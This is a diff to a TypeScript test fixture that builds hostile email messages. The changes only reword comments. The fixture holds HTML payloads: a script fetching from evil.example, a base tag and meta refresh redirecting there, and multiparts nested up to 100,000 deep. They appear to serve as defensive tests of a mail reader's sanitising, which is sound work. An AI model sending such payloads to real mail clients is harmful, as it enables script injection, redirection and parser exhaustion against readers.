@@ -4,11 +4,11 @@ const KB = 1024;
 const mail = (headers: string[], body: string): Buffer => Buffer.from([...headers, '', body].join('\r\n'));
 const html = (body: string): Buffer => mail(['Subject: Hostile', 'Content-Type: text/html; charset=utf-8'], body);
 
-/** Multiparts in one another, each of which begins the next. */
+/** Nested multiparts, each of which starts the next. */
 const nestedParts = (depth: number): string =>
   Array.from({ length: depth }, (_, n) => `--b${n}\r\nContent-Type: multipart/mixed; boundary=b${n + 1}\r\n`).join('\r\n');
 
-/** Whatever a message could do to its reader: run, fetch, send, lead elsewhere or cover the page. */
+/** Everything that a message could do to its reader: execute, load, send, redirect or cover the page. */
 export const hostileMarkup = [
   '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
   '<script>document.title = "taken"; fetch("https://evil.example/script")</script>',
@@ -26,7 +26,7 @@ export const hostileMarkup = [
   '<img src="data:image/svg+xml;base64,PHN2Zy8+"><img src="cid:nobody">',
 ].join('\n');
 
-/** Messages of those who want to stop a host, or whoever reads them. */
+/** Messages of attackers who want to harm a host or a reader. */
 export function* mails(): Generator<{ name: string; bytes: Buffer }> {
   yield { name: 'markup.eml', bytes: html(hostileMarkup) };
   for (const depth of [200, 100_000])
